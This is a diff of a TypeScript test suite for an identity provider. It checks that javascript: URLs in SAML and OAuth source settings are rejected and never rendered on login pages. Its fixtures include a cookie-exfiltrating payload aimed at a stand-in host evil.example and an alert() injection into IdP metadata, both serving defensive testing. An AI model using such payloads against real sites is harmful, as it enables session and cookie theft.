@@ -9,7 +9,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createTestApp, type TestApp } from '../../support/app.js';
 import { testKeyPair } from '../../fakes/certs.js';
 import { TestSamlIdp } from '../../fakes/saml-idp.js';
-import { createSamlSourceViaApi } from './saml/source-api.js';
+import { createSamlSourceViaApi } from '../../sources/saml/http/source-api.js';
 
 let app: TestApp;
 const pks: Record<string, string> = {};
@@ -17,7 +17,11 @@ const SCRIPT_URL = 'javascript:fetch(`//evil.example/?c=${document.cookie}`)';
 
 beforeAll(async () => {
   app = await createTestApp();
-  for (const [slug, binding] of [['post', 'POST'], ['postauto', 'POST_AUTO'], ['redirect', 'REDIRECT']] as const) {
+  for (const [slug, binding] of [
+    ['post', 'POST'],
+    ['postauto', 'POST_AUTO'],
+    ['redirect', 'REDIRECT'],
+  ] as const) {
     pks[slug] = (await createSamlSourceViaApi(app, slug, { sso_url: 'https://idp.example.test/sso', binding_type: binding })).pk;
   }
 }, 60_000);
@@ -28,7 +32,7 @@ afterAll(async () => {
 
 /** What an import before the fix (or a direct database edit) left behind. */
 async function storeSsoUrl(slug: string, url: string): Promise<void> {
-  await app.db.updateTable('saml_sources').set({ sso_url: url }).where('source_uuid', '=', pks[slug]!).execute();
+  await app.db.updateTable('saml_sources').set({ sso_url: url }).where('source_uuid', '=', pks[slug]).execute();
 }
 
 describe('a stored javascript: sso_url', () => {
@@ -46,13 +50,20 @@ describe('a stored javascript: sso_url', () => {
 describe('import_metadata', () => {
   it('refuses metadata whose SingleSignOnService Location is javascript:, and leaves the source alone', async () => {
     await storeSsoUrl('post', 'https://idp.example.test/sso');
-    const idp = new TestSamlIdp({ entityId: 'https://idp.example.test/metadata', ssoUrl: 'https://idp.example.test/sso', sloUrl: 'https://idp.example.test/slo', signing: await testKeyPair('idp') });
+    const idp = new TestSamlIdp({
+      entityId: 'https://idp.example.test/metadata',
+      ssoUrl: 'https://idp.example.test/sso',
+      sloUrl: 'https://idp.example.test/slo',
+      signing: await testKeyPair('idp'),
+    });
     const metadata = idp.metadataXml().replace('Location="https://idp.example.test/sso/post"', 'Location="javascript:alert(document.domain)"');
     const res = await app.request({ method: 'POST', url: '/api/v3/sources/saml/post/import_metadata/', payload: { metadata } });
     expect(res.statusCode, res.body).toBe(400);
-    expect(res.json()).toEqual({ metadata: ['The SingleSignOnService (HTTP-POST) Location "javascript:alert(document.domain)" is not an http(s) URL.'] });
+    expect(res.json()).toEqual({
+      metadata: ['The SingleSignOnService (HTTP-POST) Location "javascript:alert(document.domain)" is not an http(s) URL.'],
+    });
     const source = await app.request({ method: 'GET', url: '/api/v3/sources/saml/post/' });
-    expect((source.json() as { sso_url: string }).sso_url).toBe('https://idp.example.test/sso');
+    expect(source.json<{ sso_url: string }>().sso_url).toBe('https://idp.example.test/sso');
     const page = await app.request({ method: 'GET', url: '/source/saml/post/', token: null });
     expect(page.statusCode).toBe(200);
     expect(page.body).toContain('action="https://idp.example.test/sso"');
@@ -76,7 +87,11 @@ describe('a stored javascript: OAuth authorization_url', () => {
       },
     });
     expect(create.statusCode, create.body).toBe(201);
-    await app.db.updateTable('oauth_sources').set({ authorization_url: SCRIPT_URL }).where('source_uuid', '=', (create.json() as { pk: string }).pk).execute();
+    await app.db
+      .updateTable('oauth_sources')
+      .set({ authorization_url: SCRIPT_URL })
+      .where('source_uuid', '=', create.json<{ pk: string }>().pk)
+      .execute();
     const res = await app.request({ method: 'GET', url: '/source/oauth/login/generic/', token: null });
     expect(res.headers.location ?? '').not.toMatch(/^\s*javascript:/i);
     expect(res.statusCode).toBe(400);
